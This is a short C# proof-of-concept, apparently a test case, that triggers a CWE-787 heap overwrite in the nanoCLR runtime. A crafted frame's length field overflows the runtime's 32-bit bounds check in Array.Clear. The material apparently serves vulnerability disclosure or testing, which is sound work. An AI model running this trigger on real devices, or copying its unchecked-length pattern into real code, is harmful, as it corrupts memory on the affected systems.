// CWE-787: a field of the frame says how many bytes to wipe.
// nanoCLR checks index + length in 32 bits, where 8 + 2147483647 is negative, and the native fill runs over the heap.
using System;

public class Program
{
    public static void Main()
    {
        byte[] frame = { 0x42, 0x4D, 0xFF, 0xFF, 0xFF, 0x7F, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 };
        int length = frame[2] | (frame[3] << 8) | (frame[4] << 16) | (frame[5] << 24);
        Console.WriteLine("wiping " + length.ToString());
        Array.Clear(frame, 8, length);
        Console.WriteLine("wiped");
    }
}
